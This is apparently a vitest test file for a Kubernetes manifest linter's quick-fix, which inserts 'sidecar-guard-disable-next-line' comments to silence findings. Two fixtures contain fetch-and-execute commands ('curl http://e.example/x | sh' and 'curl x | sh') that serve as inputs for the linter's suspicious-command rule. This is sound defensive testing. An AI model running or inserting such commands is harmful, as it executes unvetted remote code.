import { describe, expect, it } from 'vitest';
import { disableForLine } from '../../../server/src/fixes/disable';
import { applyEdits } from '../../../server/src/fixes/text-edit';
import { analyse, see } from '../analyse';
import { IMAGE, podOf, podRunning, podWith } from '../manifests';

/** The text with the first finding of a rule silenced by a comment; `undefined` where no comment can stand. */
function silenced(text: string, rule: string): string | undefined {
  for (const { document, analysis, offset } of analyse(text).documents) {
    const finding = analysis.findings.find((candidate) => candidate.rule.id === rule);
    if (!finding) continue;
    const edits = disableForLine(document, finding.at, finding.span, rule);
    return (
      edits && text.slice(0, offset) + applyEdits(document.text, edits) + text.slice(offset + document.text.length)
    );
  }
  throw new Error(`Nothing to silence in:\n${text}`);
}

const script = podOf(`containers:
- name: web
  image: ${IMAGE}
  command:
  - sh
  - -c
  - |
    echo
    curl http://e.example/x | sh
`);

describe('silencing a finding by a comment', () => {
  it.each([
    ['on its line', podWith('web'), 'privileged'],
    ['with CRLF', podWith('web').replaceAll('\n', '\r\n'), 'privileged'],
    ['in the second document', `${podWith('a', 'runAsUser: 1')}---\n${podWith('web')}`, 'privileged'],
    ['on the first line', podWith('web').replace(/^/, '{}\n---\n'), 'privileged'],
    ['in a script', script, 'suspicious-command'],
    ['in a flow list', podRunning(['sh', '-c', 'curl x | sh']), 'suspicious-command'],
    [
      'in flow style over several lines',
      podWith('web', 'x: {\n          privileged: true }').replace(
        'securityContext:\n        x: {',
        'securityContext: {',
      ),
      'privileged',
    ],
  ])('works %s and changes nothing else', (_, text, rule) => {
    const after = silenced(text, rule) ?? '';
    expect(see(after, rule)).toEqual([]);
    const others = (yaml: string): string[] =>
      see(yaml)
        .filter((finding) => finding.rule !== rule)
        .map(({ message }) => message);
    expect(others(after)).toEqual(others(text));
    const rest = after.split('\n').filter((line) => !line.includes('sidecar-guard-disable'));
    expect(rest.join('\n')).toBe(text);
    expect(after.replaceAll('\r\n', '').includes('\r') || (text.includes('\r\n') && /[^\r]\n/.test(after))).toBe(false);
  });

  it('stands above the line, indented like it', () => {
    expect(silenced(podWith('web'), 'privileged')).toContain(
      '      securityContext:\n        # sidecar-guard-disable-next-line privileged\n        privileged: true\n',
    );
  });

  it('adds to a comment that is there', () => {
    const text = podOf('containers:\n- name: web\n  image: app\n');
    const once = silenced(text, 'mutable-tag') ?? '';
    const twice = silenced(once, 'unqualified-image') ?? '';
    expect(twice).toContain('# sidecar-guard-disable-next-line mutable-tag unqualified-image\n');
    expect(twice.match(/sidecar-guard/g)).toHaveLength(1);
    const reason = silenced(once.replace('mutable-tag', 'mutable-tag -- it is a test'), 'unqualified-image') ?? '';
    expect(reason).toContain('# sidecar-guard-disable-next-line mutable-tag unqualified-image -- it is a test\n');
    expect(see(reason).map(({ rule }) => rule)).toEqual(['image-gate-missing']);
  });

  it('is not offered where the text is JSON, which has no comments', () => {
    const json =
      '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a"},"spec":{"containers":[{"name":"a","image":"b:1","securityContext":{"privileged":true}}]}}';
    const after = silenced(json, 'privileged');
    expect(after === undefined || see(after, 'privileged').length === 0).toBe(true);
  });
});
